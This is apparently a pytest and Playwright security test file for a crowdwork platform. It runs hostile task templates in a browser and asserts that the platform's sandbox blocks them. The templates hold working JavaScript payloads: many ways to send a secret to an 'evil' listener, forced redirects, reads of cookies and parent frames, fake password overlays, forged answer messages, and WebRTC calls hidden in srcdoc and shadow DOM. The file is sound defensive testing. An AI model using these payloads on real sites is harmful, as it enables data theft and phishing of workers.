"""Templates that attack: each runs in a real browser, and nothing comes of it."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import FrameLocator, Page, expect

from browser.listener import Listener, listening
from handwork_client import Client
from tools.chromium import PATIENCE_MS

EVE = "worker-12@example.org"
TRIED = 'console.error("tried")'
SHORT_MS = 20
# What gets out arrives within a moment.
NOTHING_CAME_MS = 1_000
SAID = re.compile("done")
# Says "done" once everything before it was tried.
DONE = """<p id="ran"></p><script>
addEventListener("load", () => setTimeout(() => { ran.textContent = "done"; }, 400));
</script>"""
ELEMENTS = '<crowd-form><crowd-input name="word"></crowd-input></crowd-form>'


@pytest.fixture
def evil() -> Iterator[Listener]:
    with listening() as listener:
        yield listener


@dataclass
class Shown:
    """A hostile template in a worker's page."""

    page: Page
    frame: FrameLocator
    visitor: object

    def wait(self) -> None:
        """Wait until the template has tried everything."""
        expect(self.frame.locator("#ran")).to_have_text(SAID)

    def wait_until_tried(self) -> None:
        """Wait until the template's script says on the console that it now tries."""
        for _ in range(0, PATIENCE_MS, SHORT_MS):
            if "tried" in self.visitor.complaints:
                return
            self.page.wait_for_timeout(SHORT_MS)
        raise AssertionError("the template has not tried anything")

    def skip(self) -> None:
        """Leave by the page's own button."""
        shown = self.page.locator("article.task").get_attribute("id")
        self.page.get_by_role("button", name="Skip").click()
        expect(self.page.locator(f"#{shown}")).to_have_count(0)


@pytest.fixture
def show(
    cleo: Client, visit: Callable[..., object]
) -> Iterator[Callable[[str], Shown]]:
    """Publish a template and open its task as a worker."""
    visitors = []

    def open_task(html: str) -> Shown:
        project = cleo.create_project(
            title="Words", kind="template", instructions="Read.",
            options={"template": html, "language": "layout", "compare": ""},
        )  # fmt: skip
        batch_id = cleo.create_batch(
            project, title="Words", price_micros=50_000, currency="EUR",
            answers_wanted=1, expected_seconds=10,
        )  # fmt: skip
        cleo.push_tasks(batch_id, [{"key": "one", "secret": "the-secret-of-this-row"}])
        cleo.publish(batch_id)
        visitor = visit("desktop", EVE)
        visitors.append(visitor)
        page = visitor.begin(batch_id)
        return Shown(page, page.frame_locator("hw-frame iframe"), visitor)

    yield open_task
    for visitor in visitors:
        # What the walls keep out is written to the console.
        visitor.complaints.clear()


def hostile(script: str, evil: Listener, markup: str = "") -> str:
    """Write a template whose script knows a secret and where to send it."""
    return (
        f'{markup}<script>const evil = "{evil.url}", secret = "${{secret}}";'
        f"const tries = {{}}; const attempt = (name, act) => {{ try {{ const r = act(); "
        "if (r && r.then) r.then((v) => { tries[name] = String(v); }, () => {}); "
        "else tries[name] = String(r); } catch (error) { tries[name] = error.name; } };"
        f"{script}</script>{ELEMENTS}{DONE}"
    )


SENDING = """
attempt("fetch", () => fetch(evil + "/fetch?" + secret, {mode: "no-cors"}));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("POST", evil + "/xhr"); x.send(secret); });
attempt("beacon", () => navigator.sendBeacon(evil + "/beacon", secret));
attempt("socket", () => new WebSocket(evil.replace("http", "ws") + "/socket?" + secret));
attempt("events", () => new EventSource(evil + "/events?" + secret));
attempt("image", () => { new Image().src = evil + "/image?" + secret; });
attempt("import", () => import(evil + "/import?" + secret));
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('" + evil + "/worker')"]))));
attempt("shared", () => new SharedWorker("data:text/javascript,fetch('" + evil + "/shared')"));
attempt("keepalive", () => fetch(evil + "/keepalive?" + secret, {method: "POST", keepalive: true, mode: "no-cors"}));
attempt("font", () => new FontFace("x", "url(" + evil + "/font?" + secret + ")").load());
attempt("audio", () => { new Audio(evil + "/audio?" + secret).play().catch(() => {}); });
for (const [tag, name] of [["script", "src"], ["iframe", "src"], ["embed", "src"], ["object", "data"],
  ["video", "poster"], ["source", "src"], ["track", "src"], ["input", "src"], ["frame", "src"], ["portal", "src"]]) {
  const e = document.createElement(tag); e.type = tag === "input" ? "image" : ""; e[name] = evil + "/" + tag + "?" + secret;
  document.documentElement.append(e);
}
for (const rel of ["stylesheet", "prefetch", "preload", "modulepreload", "prerender", "icon", "manifest", "preconnect", "dns-prefetch"]) {
  const l = document.createElement("link"); l.rel = rel; l.as = "image"; l.href = evil + "/" + rel + "?" + secret;
  document.head.append(l);
}
document.head.insertAdjacentHTML("beforeend", "<style>@import url('" + evil + "/style'); html { background: url('" + evil + "/css?" + secret + "') }</style>");
const srcdoc = document.createElement("iframe"); srcdoc.srcdoc = "<img src='" + evil + "/srcdoc'>"; document.documentElement.append(srcdoc);
const blank = document.createElement("iframe"); document.documentElement.append(blank);
attempt("blank", () => blank.contentWindow.fetch(evil + "/blank"));
const rules = document.createElement("script"); rules.type = "speculationrules";
rules.textContent = JSON.stringify({prefetch: [{source: "list", urls: [evil + "/speculation"]}]}); document.head.append(rules);
const report = document.createElement("meta"); report.httpEquiv = "Content-Security-Policy";
report.content = "img-src 'none'; report-uri " + evil + "/report"; document.head.append(report);
"""


def test_nothing_is_sent_anywhere(show, evil):
    shown = show(hostile(SENDING, evil))
    shown.wait()
    shown.page.wait_for_timeout(NOTHING_CAME_MS)
    assert evil.heard == []
    shown.skip()


@pytest.mark.parametrize(
    "act",
    [
        'location = evil + "/go?" + secret',
        """const f = document.createElement("form"); f.action = evil + "/form";
        f.innerHTML = "<input name=s value=" + secret + ">"; document.body.append(f);
        f.submit()""",
        """const f = document.createElement("form"); f.action = evil + "/form";
        f.method = "post"; f.innerHTML = "<button>"; document.body.append(f);
        f.requestSubmit()""",
        'location.replace(evil + "/go?" + secret)',
        """document.head.insertAdjacentHTML("beforeend",
        '<meta http-equiv="refresh" content="0;url=' + evil + '/refresh">')""",
        """const a = document.createElement("a"); a.href = evil + "/link?" + secret;
        document.body.append(a); a.click()""",
        """const a = document.createElement("a"); a.href = "data:,x";
        a.ping = evil + "/ping"; document.body.append(a); a.click()""",
    ],
)
def test_a_frame_that_goes_elsewhere_takes_nothing_along(show, evil, act):
    # In a layout `${…}` of a script stays JavaScript's own, unless a field has that name.
    tries = f"setTimeout(() => {{ {TRIED}; {act} }}, 600);"
    shown = show(hostile(tries, evil))
    shown.wait_until_tried()
    shown.page.wait_for_timeout(NOTHING_CAME_MS)
    assert evil.heard == []
    assert "/task/" in shown.page.url
    shown.skip()


OUTSIDE = """
attempt("cookie", () => document.cookie);
attempt("storage", () => localStorage.getItem("x"));
attempt("session", () => sessionStorage.getItem("x"));
attempt("database", () => indexedDB.open("x"));
attempt("caches", () => caches.open("x"));
attempt("service", () => navigator.serviceWorker.register("/static/handwork/site.js"));
attempt("parent", () => parent.document.body.innerHTML);
attempt("top", () => top.document.cookie);
attempt("frameElement", () => frameElement && frameElement.ownerDocument.cookie);
attempt("href", () => parent.location.href);
attempt("go", () => { top.location = evil + "/top?" + secret; });
attempt("replace", () => { parent.location.replace(evil + "/top?" + secret); });
attempt("open", () => window.open(evil + "/open?" + secret));
attempt("blank", () => window.open("about:blank"));
attempt("alert", () => alert("Type your password"));
attempt("prompt", () => prompt("Type your password"));
attempt("print", () => print());
attempt("domain", () => { document.domain = "localhost"; });
attempt("opener", () => opener && opener.location.href);
attempt("history", () => history.pushState(null, "", "/account/"));
attempt("notify", () => Notification.requestPermission());
attempt("place", () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(() => yes("somewhere"), no)));
attempt("camera", () => navigator.mediaDevices.getUserMedia({video: true, audio: true}));
attempt("clipboard", () => navigator.clipboard.readText());
attempt("credential", () => navigator.credentials.get({password: true}));
attempt("full", () => document.documentElement.requestFullscreen());
addEventListener("load", () => setTimeout(() => {
  const shown = document.createElement("pre"); shown.id = "tries"; shown.textContent = JSON.stringify(tries); document.body.append(shown);
}, 300));
"""
REFUSED = (
    "cookie", "storage", "session", "database", "caches", "service", "parent", "top",
    "href", "go", "replace", "domain",
)  # fmt: skip


def test_a_template_reaches_nothing_outside_its_frame(show, evil):
    shown = show(hostile(OUTSIDE, evil))
    dialogs: list[str] = []
    shown.page.on(
        "dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss())
    )
    shown.wait()
    tries = shown.frame.locator("#tries").evaluate("(e) => JSON.parse(e.textContent)")
    said = {name: tries.get(name, "refused") for name in REFUSED}
    # Each of them failed by an error of the browser, or came to nothing.
    assert all("Error" in word or word == "refused" for word in said.values()), said
    for name in ("camera", "clipboard", "place", "credential"):
        assert tries.get(name, "refused") in ("refused", "TypeError"), (name, tries)
    assert tries["open"] == tries["blank"] == "null"
    assert dialogs == []
    assert len(shown.visitor.context.pages) == 1
    assert "/task/" in shown.page.url
    assert evil.heard == []
    shown.skip()


FALSE_ANSWER = """
const say = (message) => parent.postMessage(JSON.stringify({handwork: 1, ...message}), "*");
addEventListener("load", () => {
  say({type: "answer", answer: {word: "false"}, request: "1"});
  say({type: "answer", answer: {word: "false"}, request: ""});
  say({type: "submit"});
  parent.postMessage({handwork: 1, type: "answer", answer: {word: "false"}}, "*");
  for (const type of ["skip", "begin", "collect", "__proto__", "constructor"]) say({type});
});
"""


def test_an_answer_that_nobody_gave_is_not_taken(show, evil):
    shown = show(hostile(FALSE_ANSWER, evil))
    posted: list[str] = []
    shown.page.on(
        "request", lambda r: posted.append(r.url) if r.method == "POST" else None
    )
    shown.wait()
    shown.page.wait_for_timeout(500)
    assert not [url for url in posted if url.endswith("/submit/")]
    assert shown.page.locator("[name=answer]").input_value() == ""
    expect(shown.page.get_by_role("button", name="Submit")).to_be_visible()
    shown.skip()


def test_a_flood_of_messages_is_stopped(show, evil):
    flood = (
        "const text = JSON.stringify({handwork: 1, type: 'resize', height: 300});"
        "let n = 0; const more = () => { for (let i = 0; i < 500; i++) "
        "parent.postMessage(text, '*'); if (n++ < 200) setTimeout(more, 5); };"
        "addEventListener('load', () => setTimeout(more, 800));"
    )
    shown = show(hostile(flood, evil))
    expect(shown.page.get_by_role("alert")).to_contain_text("was stopped")
    shown.skip()


def test_a_template_that_never_stops_computing_can_be_left(show, evil):
    spin = f"{TRIED}; for (;;) {{}}"
    script = f"addEventListener('load', () => setTimeout(() => {{ {spin} }}, 800));"
    shown = show(hostile(script, evil))
    shown.wait_until_tried()
    shown.skip()


def test_a_template_covers_nothing_of_the_page(show, evil):
    overlay = (
        '<div style="position: fixed; inset: -2000px; z-index: 2147483647; '
        'background: #fff">Your session ended. <input type="password"></div>'
    )
    grow = (
        "const say = (message) => parent.postMessage(JSON.stringify({handwork: 1, "
        "...message}), '*'); addEventListener('load', () => setTimeout(() => "
        "say({type: 'resize', height: 1e12}), 600));"
    )
    shown = show(hostile(grow, evil, overlay))
    expect(shown.page.locator("hw-frame iframe")).to_have_css("height", "30000px")
    covered = shown.page.evaluate(
        """() => [...document.querySelectorAll("header.top a, .actions button")].filter((e) => {
          e.scrollIntoView({block: "center"});
          const {left, top, width, height} = e.getBoundingClientRect();
          const seen = document.elementFromPoint(left + width / 2, top + height / 2);
          return !e.contains(seen);
        }).map((e) => e.textContent)"""
    )
    assert covered == []
    expect(shown.page.get_by_text("Never type a password or pay here")).to_be_visible()
    shown.skip()


CALL = (
    "const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + "
    "PORT}]}); c.createDataChannel('x'); c.createOffer().then((o) => "
    "c.setLocalDescription(o));"
)
# Ways to a document in which the browser's calls are there again.
WAYS = {
    "here": CALL,
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{srcdoc: INSIDE}));",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"' + "
    "INSIDE.replaceAll('\"', '&quot;') + '\"></iframe>');",
    "shadow": "const d = document.createElement('div'); document.body.append(d); "
    "const r = d.attachShadow({mode: 'closed'}); r.innerHTML = '<iframe></iframe>'; "
    "r.firstChild.srcdoc = INSIDE;",
    "before": "const d = document.createElement('div'); "
    "const r = d.attachShadow({mode: 'closed'}); "
    "r.append(Object.assign(document.createElement('iframe'), {srcdoc: INSIDE})); "
    "document.body.append(d);",
    "unsafe": "document.body.setHTMLUnsafe('<div><template shadowrootmode=closed>' + "
    "'<iframe srcdoc=\"' + INSIDE.replaceAll('\"', '&quot;') + '\"></iframe></template></div>');",
    "written": "document.write('<div><template shadowroot' + 'mode=closed><iframe srcdoc=\"'"
    " + INSIDE.replaceAll('\"', '&quot;') + '\"></iframe></template></div>');",
    "window": "document.body.append(document.createElement('iframe')); "
    "window[0].eval(INSIDE);",
    "replaced": "NodeList.prototype.__defineGetter__('length', () => 0); "
    "Element.prototype.remove = () => {}; MutationObserver.prototype.observe = () => {}; "
    "document.body.append(Object.assign(document.createElement('iframe'), "
    "{srcdoc: INSIDE}));",
}


# Those that leave the document as it is are tried in one.
TOGETHER = ("here", "frame", "markup", "shadow", "before", "unsafe", "window")


@pytest.mark.parametrize("ways", [TOGETHER, ("written",), ("replaced",)], ids="-".join)
def test_nobody_is_called(show, evil, ways):
    call = CALL.replace("PORT", str(evil.port))
    tries = "".join(f"try {{ {WAYS[way]} }} catch (e) {{}} " for way in ways)
    script = tries.replace("PORT", str(evil.port))
    inside = f"const INSIDE = '<script>' + {call!r} + '<' + '/script>';"
    shown = show(
        f"{ELEMENTS}<script>{inside} {{ {script} }}</script>"
        f"<script>addEventListener('load', () => {{ {script} }});</script>"
    )
    shown.page.wait_for_timeout(NOTHING_CAME_MS)
    assert evil.heard == []
    shown.skip()
